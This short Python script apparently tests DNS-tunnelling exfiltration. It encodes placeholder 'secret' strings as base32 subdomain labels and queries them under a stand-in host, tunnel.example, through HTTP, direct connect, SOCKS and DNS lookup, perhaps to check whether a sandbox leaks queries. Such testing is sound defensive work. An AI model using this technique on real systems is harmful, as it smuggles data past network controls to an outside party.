# Words smuggled out in names that somebody's server is asked for: so many, by each way.
import base64
for number in range(int(sys.argv[1])):
    word = base64.b32encode(f"secret {number:08}".encode()).decode().strip("=").lower()
    for act in (lambda: get(f"http://{word}.tunnel.example/"), lambda: connect(f"{word}x.tunnel.example:80"),
                lambda: socks(f"{word}y.tunnel.example"), lambda: socket.getaddrinfo(f"{word}z.tunnel.example", 80)):
        try:
            act()
        except OSError:
            pass
print("asked", flush=True)
done()
